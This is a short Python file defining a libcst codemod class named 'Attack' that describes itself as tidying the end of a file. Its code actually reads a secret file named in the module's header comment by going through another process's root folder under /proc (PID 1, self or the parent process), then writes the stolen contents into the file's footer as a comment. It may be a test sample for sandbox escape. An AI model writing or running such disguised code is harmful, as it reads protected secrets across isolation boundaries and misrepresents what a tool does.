"""Go to the file through the root folder that another process of the system shows in ``/proc``."""
import ast
import os

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        for process in ("1", "self", str(os.getppid())):
            try:
                with open(f"/proc/{process}/root{target['secret_file']}") as file:
                    loot = file.read()
                break
            except OSError:
                continue
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
